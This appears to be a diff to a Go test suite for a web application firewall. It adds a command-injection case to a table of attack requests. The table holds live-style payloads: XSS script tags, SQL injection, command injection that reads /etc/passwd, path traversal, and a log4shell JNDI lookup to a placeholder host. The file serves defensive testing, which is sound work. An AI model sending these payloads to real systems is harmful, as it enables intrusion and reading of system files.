@@ -58,6 +58,8 @@ var wafAttacks = []wafReq{
 	{"xss query", "GET", "/v1/search?q=" + wq("<script>alert(1)</script>"), nil, ""},
 	{"xss json body", "POST", "/v1/comments", map[string]string{"Content-Type": "application/json"}, `{"text":"<script>alert(1)</script>"}`},
 	{"sqli json body", "POST", "/v1/login", map[string]string{"Content-Type": "application/json"}, `{"user":"admin' OR 1=1--","password":"x"}`},
+	// Caught only by rules the WAF's pruning may remove (not libinjection's).
+	{"command injection json body", "POST", "/v1/ping", map[string]string{"Content-Type": "application/json"}, `{"host":"127.0.0.1;cat /etc/passwd"}`},
 	{"command injection", "GET", "/v1/ping?host=" + wq("127.0.0.1;cat /etc/passwd"), nil, ""},
 	{"path traversal", "GET", "/v1/files?file=" + wq("../../etc/passwd"), nil, ""},
 	{"log4shell user-agent", "GET", "/v1/items", map[string]string{"User-Agent": "${jndi:ldap://x/a}"}, ""},
